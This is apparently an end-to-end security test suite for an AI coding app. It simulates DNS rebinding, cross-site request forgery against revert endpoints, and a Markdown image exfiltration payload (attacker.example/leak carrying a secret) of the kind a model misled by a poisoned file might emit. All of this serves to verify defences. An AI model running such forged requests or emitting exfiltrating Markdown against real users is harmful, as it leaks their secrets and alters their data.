// Security end to end, with Debian's chromium as the victim's browser: DNS rebinding, cross-site
// request forgery without a body, and a Markdown image planted in a model answer. The attacker's
// pages are served by Playwright's router on names that chromium resolves to 127.0.0.1.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { api, suite } from './harness';

interface Project {
  id: number;
}
interface Change {
  id: number;
  reverted: boolean;
}
interface Session {
  id: number;
}
interface FileContent {
  content: string;
}

const SECRET = 'tandem-e2e-secret-4f1c';

const e2e = suite('security', {
  pace: 0.01,
  browserArgs: [
    '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP attacker.example 127.0.0.1',
    // Recent Chromium asks the user before a public page may reach loopback (Local Network
    // Access); Firefox, Safari and older Chromium do not, and the user may say yes. Off here, so
    // the server is what refuses.
    '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults',
  ],
});

async function projectWithSecret(): Promise<number> {
  const { id } = await api<Project>(e2e.backend.url, 'POST', '/projects', { name: 'victim', template: 'blank' });
  await api(e2e.backend.url, 'PUT', `/projects/${id}/files/secret.txt`, { content: SECRET });
  return id;
}

/** A page on `origin` whose HTML comes from the attacker (Playwright's router), not from Tandem. */
async function attackerPage(origin: string): Promise<Page> {
  const page = await e2e.browser.context.newPage();
  await page.route(`${origin}/`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>cat pictures</title><p>cats</p>' }),
  );
  await page.goto(`${origin}/`);
  return page;
}

/** Runs the scripted model (not AI) to the end through the API; returns its first code change. */
async function runWithChange(projectId: number): Promise<Change> {
  const response = await api<{ code_changes: Change[] }>(e2e.backend.url, 'POST', `/chat/${projectId}`, {
    message: 'note this',
  });
  const [first] = response.code_changes;
  assert.ok(first, 'the scripted run writes a file');
  return first;
}

describe('trust boundaries in the browser', () => {
  test('a page on a rebound host name can neither read, write nor run anything', async () => {
    const projectId = await projectWithSecret();
    const filesBefore = await api<{ path: string }[]>(e2e.backend.url, 'GET', `/projects/${projectId}/files`);
    const port = new URL(e2e.backend.url).port;
    // After DNS rebinding, evil.example:<port> is Tandem's address but the page is the attacker's:
    // for the browser every request below is same-origin.
    const page = await attackerPage(`http://evil.example:${port}`);
    const result = await page.evaluate(async (id) => {
      const json = { 'Content-Type': 'application/json' };
      const read = await fetch(`/api/v1/projects/${id}/files/secret.txt`);
      const write = await fetch(`/api/v1/projects/${id}/files/pwned.txt`, {
        method: 'PUT',
        headers: json,
        body: JSON.stringify({ content: 'pwned' }),
      });
      const run = await fetch(`/api/v1/chat/${id}`, {
        method: 'POST',
        headers: json,
        body: JSON.stringify({ message: 'spend the owner credits' }),
      });
      return { read: read.status, body: await read.text(), write: write.status, run: run.status };
    }, projectId);
    await page.close();

    assert.deepEqual([result.read, result.write, result.run], [421, 421, 421]);
    assert.ok(!result.body.includes(SECRET), 'the secret never reaches the page');
    const files = await api<{ path: string }[]>(e2e.backend.url, 'GET', `/projects/${projectId}/files`);
    assert.deepEqual(files, filesBefore, 'no file was written');
    assert.deepEqual(await api<Session[]>(e2e.backend.url, 'GET', `/projects/${projectId}/sessions`), []);
  });

  test('another site cannot revert changes with body-less POSTs or forms', async () => {
    const projectId = await projectWithSecret();
    const change = await runWithChange(projectId);
    const changes = await api<{ run_id: string }[]>(e2e.backend.url, 'GET', `/projects/${projectId}/changes`);
    const before = await api<FileContent>(e2e.backend.url, 'GET', `/projects/${projectId}/files/TANDEM_NOTES.md`);

    const page = await attackerPage('http://attacker.example');
    await page.evaluate(
      async ({ base, changeId, runId }) => {
        const urls = [`${base}/api/v1/changes/${changeId}/revert`, `${base}/api/v1/runs/${runId}/revert`];
        // No body, no preflight: the request goes out; only the server can refuse it. (The
        // answer is withheld from the page by Cross-Origin-Resource-Policy, so fetch rejects.)
        await Promise.allSettled(urls.map((url) => fetch(url, { method: 'POST', mode: 'no-cors' })));
        for (const [i, url] of urls.entries()) {
          const sink = document.createElement('iframe');
          sink.name = `sink${i}`;
          document.body.append(sink);
          const form = document.createElement('form');
          form.method = 'POST';
          form.action = url;
          form.target = sink.name;
          document.body.append(form);
          form.submit();
        }
      },
      { base: e2e.backend.url, changeId: change.id, runId: changes[0]?.run_id },
    );
    // The server got every forged request (by fetch and by form) and refused it.
    const answered = (url: string, status: number) =>
      e2e.backend.log().split(`"POST /api/v1${url} HTTP/1.1" ${status}`).length - 1;
    const forged = [`/changes/${change.id}/revert`, `/runs/${changes[0]?.run_id}/revert`];
    const deadline = Date.now() + 30_000;
    while (forged.some((url) => answered(url, 403) + answered(url, 200) < 2) && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 100));
    }
    await page.close();
    for (const url of forged) assert.equal(answered(url, 403), 2, `${url}: both forged requests refused`);
    const after = await api<Change>(e2e.backend.url, 'GET', `/changes/${change.id}`);
    assert.equal(after.reverted, false, 'the change was not reverted');
    const file = await api<FileContent>(e2e.backend.url, 'GET', `/projects/${projectId}/files/TANDEM_NOTES.md`);
    assert.equal(file.content, before.content);
  });

  test('a Markdown image in a model answer is shown as a link and never fetched', async () => {
    const projectId = await projectWithSecret();
    const page = await e2e.browser.context.newPage();
    const requested: string[] = [];
    page.on('request', (r) => requested.push(r.url()));
    await page.addInitScript(() => {
      const w = window as unknown as { cspViolations: string[] };
      w.cspViolations = [];
      document.addEventListener('securitypolicyviolation', (e) => w.cspViolations.push(e.blockedURI));
    });
    await page.goto(`${e2e.backend.url}/#/projects/${projectId}?file=secret.txt`);
    await page.locator('[data-testid="code-editor"] .cm-content').waitFor();
    const leak = `http://attacker.example/leak?d=${SECRET}`;
    // The scripted model (not AI) quotes the request in its answer, as a model misled by a
    // poisoned file would write the attacker's Markdown.
    await page.getByRole('textbox', { name: 'Message' }).fill(`![chart](${leak})`);
    await page.getByRole('textbox', { name: 'Message' }).press('Enter');
    const link = page.getByTestId('final-answer').getByTestId('image-link');
    await link.waitFor({ timeout: 60_000 });

    assert.equal(await link.getAttribute('href'), leak, 'the image is offered as a link');
    assert.equal(await page.getByTestId('final-answer').locator('img').count(), 0);
    await page.waitForTimeout(500);
    assert.deepEqual(
      requested.filter((url) => url.includes('attacker.example')),
      [],
      'no request left the page',
    );
    // The whole UI (editor, chat, stream) works under the strict CSP: nothing of its own is blocked.
    const violations = await page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);
    assert.deepEqual(violations, []);
    await page.close();
  });
});
